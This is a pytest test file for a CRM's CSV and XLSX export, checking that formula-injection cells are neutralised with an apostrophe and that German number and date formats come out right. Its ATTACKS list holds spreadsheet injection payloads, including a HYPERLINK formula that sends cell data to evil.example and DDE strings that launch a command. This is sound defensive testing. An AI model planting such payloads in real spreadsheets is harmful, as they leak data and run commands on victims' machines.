"""CSV and XLSX export, and its protection against formula injection."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from crm.contacts.export import iter_csv, neutralize_cell, write_csv, write_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "+49 391 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUMME(A1)",
]
HEADERS = ["Name", "Notiz", "Anzahl", "Seit"]


@pytest.mark.parametrize("value", ATTACKS)
def test_cells_a_spreadsheet_could_run_are_prefixed_with_an_apostrophe(value: str) -> None:
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Müller", "a=b", "E-Mail", "info@firma.de", "", "'=schon"])
def test_harmless_text_is_left_alone(value: str) -> None:
    assert neutralize_cell(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, None, Decimal("-1.5"), dt.date(2026, 11, 21), True])
def test_non_strings_are_returned_unchanged(value: object) -> None:
    assert neutralize_cell(value) is value


def rows_with_attacks() -> list[list[object]]:
    return [[attack, "Notiz", 1, dt.date(2026, 11, 21)] for attack in ATTACKS]


def test_csv_export_is_semicolon_separated_utf8_with_bom_and_crlf() -> None:
    data = write_csv(["Name", "Ort"], [["Jörg Müller", "Schönebeck; Elbe"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == 'Name;Ort\r\nJörg Müller;"Schönebeck; Elbe"\r\n'


def test_formula_in_csv_export_is_neutralised_and_survives_a_round_trip() -> None:
    data = write_csv(HEADERS, rows_with_attacks())
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert read[0] == HEADERS
    assert [row[0] for row in read[1:]] == ["'" + attack for attack in ATTACKS]
    assert all(row[0].startswith("'") for row in read[1:])


def test_csv_export_writes_numbers_and_dates_as_german_excel_reads_them() -> None:
    moment = dt.datetime(2026, 11, 21, 13, 30, tzinfo=dt.UTC)
    data = write_csv(["a", "b", "c", "d", "e", "f"], [[-5, 3.5, None, True, moment, 2.0]])
    assert data.decode("utf-8-sig").splitlines()[1] == "-5;3,5;;ja;21.11.2026 14:30;2"


def test_csv_export_is_also_written_to_a_stream() -> None:
    out = io.BytesIO()
    data = write_csv(["a"], [["x"]], out)
    assert out.getvalue() == data


def test_streamed_csv_chunks_join_to_the_whole_document() -> None:
    rows = [[f"Person {i}", "=1+1"] for i in range(1234)]
    chunks = list(iter_csv(["Name", "Notiz"], iter(rows)))
    assert len(chunks) > 1  # streamed in parts, not built in one piece
    assert b"".join(chunks) == write_csv(["Name", "Notiz"], rows)
    assert chunks[0].startswith(b"\xef\xbb\xbf")
    assert not any(chunk.startswith(b"\xef\xbb\xbf") for chunk in chunks[1:])


def read_back(data: bytes) -> list[list[object]]:
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_formula_in_xlsx_export_is_stored_as_text() -> None:
    out = io.BytesIO()
    write_xlsx(HEADERS, rows_with_attacks(), out)
    rows = read_back(out.getvalue())
    assert all(cell.data_type != "f" for row in rows for cell in row)
    names = [row[0] for row in rows[1:]]
    # Depending on the XML writer (lxml or the standard library) a stored "\r" reads back
    # as "\r" or "\n"; the apostrophe in front is what matters.
    expected = ["'" + attack.replace("\r", "\n") for attack in ATTACKS]
    assert [cell.value.replace("\r", "\n") for cell in names] == expected
    assert all(cell.data_type == "s" for cell in names)


def test_xlsx_export_contains_no_formula_element_at_all() -> None:
    out = io.BytesIO()
    write_xlsx(HEADERS, rows_with_attacks(), out)
    with zipfile.ZipFile(out) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(name) for name in sheets)
    assert sheets
    assert b"<f>" not in xml
    assert b"<f " not in xml


def test_xlsx_export_has_a_bold_header_and_keeps_numbers_and_dates_typed() -> None:
    out = io.BytesIO()
    moment = dt.datetime(2026, 11, 21, 13, 30, tzinfo=dt.UTC)
    write_xlsx(
        ["Name", "Anzahl", "Anteil", "Seit", "Zuletzt", "Leer"],
        [["Jörg Müller", -5, 0.25, dt.date(2026, 11, 21), moment, None]],
        out,
        sheet_title="Kontakte",
    )
    workbook = load_workbook(io.BytesIO(out.getvalue()))
    sheet = workbook["Kontakte"]
    assert all(cell.font.bold for cell in sheet[1])
    name, count, share, since, last, empty = sheet[2]
    assert (name.value, count.value, share.value) == ("Jörg Müller", -5, 0.25)
    assert count.data_type == "n"
    assert since.value == dt.datetime(2026, 11, 21)
    assert since.number_format == "DD.MM.YYYY"
    # Stored as Berlin wall-clock time, because Excel has no time zones.
    assert last.value == dt.datetime(2026, 11, 21, 14, 30)
    assert empty.value is None


def test_xlsx_export_drops_control_characters_excel_cannot_store() -> None:
    out = io.BytesIO()
    write_xlsx(["Notiz"], [["Zeile 1\x0bZeile 2\x00"]], out)
    assert read_back(out.getvalue())[1][0].value == "Zeile 1Zeile 2"


def test_xlsx_export_neutralises_headers_too() -> None:
    out = io.BytesIO()
    write_xlsx(["=1+1"], [], out)
    header = read_back(out.getvalue())[0][0]
    assert (header.value, header.data_type) == ("'=1+1", "s")


def test_berlin_is_used_for_aware_datetimes_in_summer_too() -> None:
    summer = dt.datetime(2026, 7, 1, 12, 0, tzinfo=ZoneInfo("UTC"))
    assert write_csv(["t"], [[summer]]).decode("utf-8-sig").splitlines()[1] == "01.07.2026 14:00"
